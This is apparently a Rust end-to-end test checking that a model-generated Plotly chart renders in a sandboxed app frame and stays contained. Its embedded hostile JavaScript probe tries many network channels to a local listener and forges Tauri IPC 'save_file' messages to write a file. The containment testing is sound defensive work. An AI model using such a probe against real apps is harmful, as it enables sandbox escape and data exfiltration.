//! Interactive charts: a Plotly page the model saved (plotly.js inlined, from the
//! sandbox image) renders live in the window's sandboxed frame, in the answer and in
//! the plots pane beside the PNGs, and answers a hover; the same page, hostile, reaches
//! nothing: every way it tries to fetch a URL of a listener of this test on 127.0.0.1
//! makes no connection, and it finds none of the app's IPC (a forged command writes no
//! file).

use std::sync::atomic::{AtomicUsize, Ordering};

use fantoccini::actions::{InputSource, MouseActions, PointerAction};

use super::*;

/// A listener on 127.0.0.1 that counts the connections made to it (and what they
/// asked for, when they said it).
struct Listener {
    port: u16,
    count: Arc<AtomicUsize>,
    heads: Arc<Mutex<Vec<String>>>,
}

impl Listener {
    fn start() -> Listener {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let count = Arc::new(AtomicUsize::new(0));
        let heads = Arc::new(Mutex::new(Vec::new()));
        let (c, h) = (count.clone(), heads.clone());
        std::thread::spawn(move || {
            for sock in l.incoming() {
                let Ok(mut sock) = sock else { continue };
                c.fetch_add(1, Ordering::SeqCst);
                let _ = sock.set_read_timeout(Some(Duration::from_millis(500)));
                let mut buf = [0u8; 512];
                let n = sock.read(&mut buf).unwrap_or(0);
                let head = String::from_utf8_lossy(&buf[..n]);
                h.lock()
                    .unwrap()
                    .push(head.lines().next().unwrap_or("").to_string());
                let _ = sock.write_all(
                    b"HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: 6\r\n\
                      access-control-allow-origin: *\r\nconnection: close\r\n\r\nreached",
                );
            }
        });
        Listener { port, count, heads }
    }

    fn seen(&self) -> (usize, Vec<String>) {
        (
            self.count.load(Ordering::SeqCst),
            self.heads.lock().unwrap().clone(),
        )
    }
}

/// The script the hostile chart carries: every way out it tries, and what became of
/// each, left in `document.body.dataset.probe` as JSON.
fn probe(port: u16, dest: &Path) -> String {
    let probe = r#"
<script>
(async () => {
  const r = {};
  const base = 'http://127.0.0.1:PORT/';
  const attempt = async (name, f) => {
    try { r[name] = 'ok: ' + String(await f()); } catch (e) { r[name] = 'refused: ' + ((e && e.name) || e); }
  };
  r.tauriInternals = typeof window.__TAURI_INTERNALS__;
  r.tauri = typeof window.__TAURI__;
  r.ipc = typeof window.ipc;
  r.origin = String(self.origin);
  await attempt('parentDocument', () => window.parent.document.title);
  await attempt('parentTauri', () => typeof window.top.__TAURI_INTERNALS__);
  await attempt('storage', () => window.localStorage.length);
  await attempt('fetch', () => fetch(base + 'fetch', { mode: 'no-cors' }).then((x) => x.type));
  await attempt('xhr', () => new Promise((ok, no) => {
    const x = new XMLHttpRequest(); x.open('GET', base + 'xhr');
    x.onload = () => ok(x.status); x.onerror = () => no(new Error('xhr failed')); x.send();
  }));
  await attempt('websocket', () => new Promise((ok, no) => {
    const w = new WebSocket('ws://127.0.0.1:PORT/ws');
    w.onopen = () => ok('open'); w.onerror = () => no(new Error('websocket failed'));
  }));
  await attempt('eventsource', () => new Promise((ok, no) => {
    const s = new EventSource(base + 'events'); s.onopen = () => ok('open'); s.onerror = () => { s.close(); no(new Error('eventsource failed')); };
  }));
  await attempt('image', () => new Promise((ok, no) => {
    const i = new Image(); i.onload = () => ok('loaded'); i.onerror = () => no(new Error('image failed')); i.src = base + 'image';
  }));
  await attempt('beacon', () => navigator.sendBeacon(base + 'beacon', 'x'));
  const s = document.createElement('script'); s.src = base + 'script'; document.head.append(s);
  const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = base + 'style'; document.head.append(l);
  const f = document.createElement('iframe'); f.src = base + 'frame'; f.style.display = 'none'; document.body.append(f);
  await attempt('popup', () => String(window.open(base + 'popup')));
  // The app's commands: through its IPC scheme, and through WebKit's message handler
  // with a forged message (the key is the main frame's alone).
  const sessionId = decodeURIComponent(location.pathname.split('/')[1]);
  const payload = { sessionId, path: 'outputs/energy.html', dest: DEST };
  await attempt('ipcFetch', () => fetch('ipc://localhost/save_file', {
    method: 'POST', body: JSON.stringify(payload),
    headers: { 'Content-Type': 'application/json', 'Tauri-Callback': '1', 'Tauri-Error': '2', 'Tauri-Invoke-Key': 'guess' },
  }).then((x) => x.status));
  await attempt('ipcMessage', () => {
    window.webkit.messageHandlers.ipc.postMessage(JSON.stringify({ cmd: 'save_file', callback: 1, error: 2, payload, options: {}, __TAURI_INVOKE_KEY__: 'guess' }));
    return 'posted';
  });
  await attempt('navigateTop', () => { window.top.location.href = base + 'top'; return 'navigated'; });
  await new Promise((ok) => setTimeout(ok, 1500));
  document.body.dataset.probe = JSON.stringify(r);
})();
</script>
"#;
    probe
        .replace("PORT", &port.to_string())
        .replace("DEST", &json!(dest.to_str().unwrap()).to_string())
}

/// The Python the scripted model runs after `PROBE = "..."`: a Plotly scatter (the
/// library inlined) with the probe added, and the same data as a PNG.
const CHART: &str = r#"import plotly.graph_objects as go
import matplotlib.pyplot as plt
days, kwh = ['Mon', 'Tue', 'Wed'], [61.5, 77.25, 70.0]
fig = go.Figure(go.Scatter(x=days, y=kwh, mode='markers', marker=dict(size=36),
                           hovertemplate='%{x}: %{y:.2f} kWh<extra></extra>'))
fig.update_layout(title='Energy by weekday', height=380, margin=dict(l=50, r=20, t=50, b=40))
fig.write_html('output/energy.html', include_plotlyjs=True, config={'displayModeBar': False})
page = open('output/energy.html', encoding='utf-8').read()
assert 'cdn.plot.ly' not in page.split('<body>')[0]
open('output/energy.html', 'w', encoding='utf-8').write(page.replace('</body>', PROBE + '</body>'))
plt.bar(days, kwh)
plt.savefig('output/energy.png')
plt.close()
print('saved', len(page))
"#;

fn chart_code(probe: &str) -> String {
    format!("PROBE = {}\n{CHART}", json!(probe))
}

/// The window as it is, pointer and all (the suite's `shot` moves the pointer away,
/// which would take the hover label with it), under SCREENSHOTS_DIR.
async fn shot_as_is(display: &Display, name: &str) {
    let Some(dir) = std::env::var_os("SCREENSHOTS_DIR").map(PathBuf::from) else {
        return;
    };
    tokio::time::sleep(Duration::from_millis(1200)).await;
    std::fs::create_dir_all(&dir).unwrap();
    let ok = Command::new("import")
        .args(["-display", &display.name, "-window", "root"])
        .args(["-crop", "1280x800+0+0", "+repage"])
        .arg(dir.join(format!("{name}.png")))
        .status()
        .expect("ImageMagick's import is needed for screenshots");
    assert!(ok.success(), "import failed for {name}");
}

/// Inside the chart frame `css` of the page: wait for the plot and the probe, and
/// return what the probe found.
async fn enter_chart(app: &App, css: &str) -> Value {
    let frame = app
        .c()
        .find(Locator::Css(css))
        .await
        .unwrap_or_else(|e| panic!("{css}: {e}"));
    frame.enter_frame().await.unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let got = app
            .c()
            .execute(
                "return [document.querySelectorAll('.scatterlayer .point').length, document.body && document.body.dataset.probe || '']",
                vec![],
            )
            .await;
        if let Ok(Value::Array(v)) = &got {
            if v[0] == json!(3) && !v[1].as_str().unwrap_or("").is_empty() {
                return serde_json::from_str(v[1].as_str().unwrap()).unwrap();
            }
        }
        assert!(
            Instant::now() < deadline,
            "the chart in {css} did not render: {got:?}"
        );
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
}

fn assert_contained(probe: &Value, label: &str) {
    assert_eq!(
        probe["tauriInternals"],
        json!("undefined"),
        "{label}: {probe}"
    );
    assert_eq!(probe["tauri"], json!("undefined"), "{label}: {probe}");
    assert_eq!(probe["ipc"], json!("undefined"), "{label}: {probe}");
    assert_eq!(
        probe["origin"],
        json!("null"),
        "{label}: an opaque origin: {probe}"
    );
    for way in [
        "parentDocument",
        "parentTauri",
        "storage",
        "fetch",
        "xhr",
        "websocket",
        "eventsource",
        "image",
        "ipcFetch",
    ] {
        let said = probe[way].as_str().unwrap_or("");
        assert!(said.starts_with("refused"), "{label}: {way}: {probe}");
    }
    // A pop-up is refused by returning no window. The beacon, the top navigation and
    // the forged IPC message may fail silently: the listener, the window and the
    // missing file are what show they went nowhere.
    let said = probe["popup"].as_str().unwrap_or("");
    assert!(
        said == "ok: null" || said.starts_with("refused"),
        "{label}: popup: {probe}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_interactive_chart_renders_answers_a_hover_and_reaches_nothing() {
    let display = Display::get();
    let data = tempfile::tempdir().unwrap();
    let work = tempfile::tempdir().unwrap();
    let listener = Listener::start();
    // The listener counts: one connection of this test's own, then none expected.
    drop(TcpStream::connect(("127.0.0.1", listener.port)).unwrap());
    let deadline = Instant::now() + Duration::from_secs(5);
    while listener.seen().0 != 1 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert_eq!(listener.seen().0, 1, "the listener does not count");
    listener.count.store(0, Ordering::SeqCst);
    listener.heads.lock().unwrap().clear();

    let stolen = work.path().join("stolen.html");
    let steps = work.path().join("chart.json");
    let code = chart_code(&probe(listener.port, &stolen));
    std::fs::write(
        &steps,
        json!([{"python": code}, {"say": "The interactive chart is `output/energy.html`."}])
            .to_string(),
    )
    .unwrap();
    let app = App::start(&display, data.path(), &[]).await;
    app.ask(
        "Chart energy by weekday, interactive.",
        &format!("replay:{}", steps.display()),
    )
    .await;
    app.wait_js(
        "return document.querySelectorAll('.ask .ending:not(:empty)').length >= 1",
        300,
    )
    .await;
    let ending = app.text(".ask .ending").await;
    assert!(
        ending.starts_with("Finished"),
        "{ending}\n{}",
        app.text(".ask").await
    );

    // In the answer: the chart live in its sandboxed frame, not its source as text.
    let card = ".artifact[data-path=\"energy.html\"]";
    app.wait_js(
        &format!("return !!document.querySelector('{card} iframe.chart-frame')"),
        60,
    )
    .await;
    let frame = app
        .js(&format!(
            "const c = document.querySelector('{card}'); const f = c.querySelector('iframe');
             return {{sandbox: f.getAttribute('sandbox'), src: decodeURIComponent(f.src), text: !!c.querySelector('.text-preview'),
                      type: c.querySelector('.artifact-head').innerText}}"
        ))
        .await;
    assert_eq!(frame["sandbox"], json!("allow-scripts"), "{frame}");
    assert_eq!(frame["text"], json!(false), "{frame}");
    assert!(
        frame["src"]
            .as_str()
            .unwrap()
            .contains("/outputs/energy.html"),
        "{frame}"
    );
    assert!(
        frame["type"]
            .as_str()
            .unwrap()
            .contains("Interactive chart"),
        "{frame}"
    );
    let in_answer = enter_chart(&app, &format!("{card} iframe.chart-frame")).await;
    assert_contained(&in_answer, "in the answer");
    app.c().enter_parent_frame().await.unwrap();

    // The plots pane lists it beside the PNG; chosen, it is live there too.
    app.click("#plots-btn").await;
    app.wait_js(
        "return document.querySelectorAll('#preview .plot-thumb').length >= 2",
        20,
    )
    .await;
    let listed = app
        .js("return [...document.querySelectorAll('#preview .plot-thumb')].map(b => b.dataset.path)")
        .await;
    let mut listed: Vec<String> = serde_json::from_value(listed).unwrap();
    listed.sort();
    assert_eq!(listed, ["outputs/energy.html", "outputs/energy.png"]);
    app.click("#preview .plot-thumb[data-path=\"outputs/energy.html\"]")
        .await;
    app.wait_js(
        "return !!document.querySelector('#preview .plot-view iframe.chart-frame')",
        20,
    )
    .await;
    let saves = app
        .js("return [...document.querySelectorAll('#preview .plot-view .plot-save')].map(b => b.dataset.format + ' ' + b.innerText)")
        .await;
    assert_eq!(saves, json!(["html Save as HTML"]));
    let in_pane = enter_chart(&app, "#preview .plot-view iframe.chart-frame").await;
    assert_contained(&in_pane, "in the plots pane");
    eprintln!("what the chart's page found: {in_pane}");

    // A hover over Tuesday's point shows its label: the pointer moved to the point's
    // centre (Plotly listens on the drag layer above the points, so the point itself
    // is not what WebDriver calls interactable).
    let at = app
        .js(
            "const ps = document.querySelectorAll('.scatterlayer .point');
             ps[1].scrollIntoView({block: 'center'});
             const r = ps[1].getBoundingClientRect();
             return [ps.length, r.left + r.width / 2, r.top + r.height / 2]",
        )
        .await;
    assert_eq!(at[0], json!(3), "{at}");
    // WebKitWebDriver places the pointer in the window's coordinates whatever frame is
    // current: add the frame's own place in the window.
    app.c().enter_parent_frame().await.unwrap();
    let frame_css = "#preview .plot-view iframe.chart-frame";
    let origin = app
        .js(&format!(
            "const r = document.querySelector({frame_css:?}).getBoundingClientRect(); return [r.left, r.top]"
        ))
        .await;
    let mouse = MouseActions::new("mouse".to_string()).then(PointerAction::MoveTo {
        duration: Some(Duration::from_millis(300)),
        x: (origin[0].as_f64().unwrap() + at[1].as_f64().unwrap()).round(),
        y: (origin[1].as_f64().unwrap() + at[2].as_f64().unwrap()).round(),
    });
    app.c().perform_actions(mouse).await.unwrap();
    app.c()
        .find(Locator::Css(frame_css))
        .await
        .unwrap()
        .enter_frame()
        .await
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(10);
    let label = loop {
        let t = app
            .c()
            .execute(
                "const t = document.querySelector('.hovertext'); return t ? t.textContent : ''",
                vec![],
            )
            .await
            .unwrap();
        let t = t.as_str().unwrap_or("").to_string();
        if !t.is_empty() || Instant::now() > deadline {
            break t;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    assert_eq!(
        label, "Tue: 77.25 kWh",
        "pointer at {at} in the frame at {origin}"
    );
    app.c().enter_parent_frame().await.unwrap();
    shot_as_is(&display, "40-interactive-chart").await;

    // Nothing reached the listener, no forged command ran, the window is still the app.
    tokio::time::sleep(Duration::from_secs(2)).await;
    let (count, heads) = listener.seen();
    assert_eq!(count, 0, "the chart reached 127.0.0.1: {heads:?}");
    assert!(!stolen.exists(), "a forged command ran from the chart");
    assert_eq!(
        app.js(
            "return document.body.dataset.ready === 'true' && !location.href.includes('127.0.0.1')"
        )
        .await,
        json!(true)
    );
    app.quit().await;
}
